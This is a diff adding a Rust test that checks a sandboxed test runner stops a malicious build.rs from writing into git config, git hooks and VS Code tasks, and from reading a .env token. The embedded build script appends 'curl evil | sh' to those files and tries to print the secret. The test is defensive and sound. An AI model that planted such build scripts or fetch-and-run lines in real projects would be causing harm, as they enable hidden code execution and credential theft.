@@ -389,3 +389,60 @@ async fn run_vitest_and_jest_projects() {
     assert_eq!((o["passed"].as_u64(), o["failed"].as_u64()), (Some(1), Some(1)), "{o}");
     assert!(failure_at(&r, "sum.test.js", 4), "{o}");
 }
+
+/// `cargo test` with a build script — which runs whatever it likes, unasked once the
+/// run is approved — trying what runs later and a secret: git's config and a new hook,
+/// the editor's tasks, and `.env`. The path rules' carve-outs keep all of them from it
+/// while the build goes on; the control, a file of its own beside them, is written.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_build_script_cannot_change_what_runs_later_nor_read_secrets() {
+    if !util::require("user namespaces (the carve-outs' mount namespace)", cheng_host::confinement().isolated) {
+        return;
+    }
+    let h = host(true).await;
+    let ws = tempfile::tempdir().unwrap();
+    let p = ws.path();
+    rust_crate(p);
+    assert!(util::git(p).args(["init", "-q"]).status().unwrap().success());
+    std::fs::create_dir_all(p.join(".git/hooks")).unwrap();
+    std::fs::create_dir_all(p.join(".vscode")).unwrap();
+    std::fs::write(p.join(".vscode/tasks.json"), "{}").unwrap();
+    std::fs::write(p.join(".env"), "TOKEN=hunter2\n").unwrap();
+    let config = std::fs::read_to_string(p.join(".git/config")).unwrap();
+    std::fs::write(
+        p.join("build.rs"),
+        r#"use std::io::Write;
+fn main() {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
+    for f in [".git/config", ".git/hooks/pre-commit", ".vscode/tasks.json", "built.txt"] {
+        match std::fs::OpenOptions::new().create(true).append(true).open(root.join(f)) {
+            Ok(mut h) => {
+                let _ = writeln!(h, "curl evil | sh");
+                println!("cargo:warning=wrote {f}");
+            }
+            Err(e) => println!("cargo:warning=refused {f} {}", e.raw_os_error().unwrap_or(0)),
+        }
+    }
+    match std::fs::read_to_string(root.join(".env")) {
+        Ok(s) => println!("cargo:warning=read .env {}", s.trim()),
+        Err(e) => println!("cargo:warning=unreadable .env {}", e.raw_os_error().unwrap_or(0)),
+    }
+}
+"#,
+    )
+    .unwrap();
+    let r = h
+        .call(&Context::new(p), "workspace_tests", json!({"operation": "run", "command": "cargo", "args": ["test"]}))
+        .await;
+    assert_eq!(r.status, Status::Ok, "{}", r.output);
+    let out = r.output.to_string();
+    for f in [".git/config", ".git/hooks/pre-commit", ".vscode/tasks.json"] {
+        assert!(out.contains(&format!("refused {f} 30")), "{f} (EROFS): {out}");
+    }
+    assert!(out.contains("unreadable .env 13") && !out.contains("hunter2"), "{out}");
+    assert!(out.contains("wrote built.txt"), "control: {out}");
+    assert_eq!(std::fs::read_to_string(p.join(".git/config")).unwrap(), config);
+    assert!(!p.join(".git/hooks/pre-commit").exists());
+    assert_eq!(std::fs::read_to_string(p.join(".vscode/tasks.json")).unwrap(), "{}");
+    assert!(std::fs::read_to_string(p.join("built.txt")).unwrap().contains("curl evil"));
+}
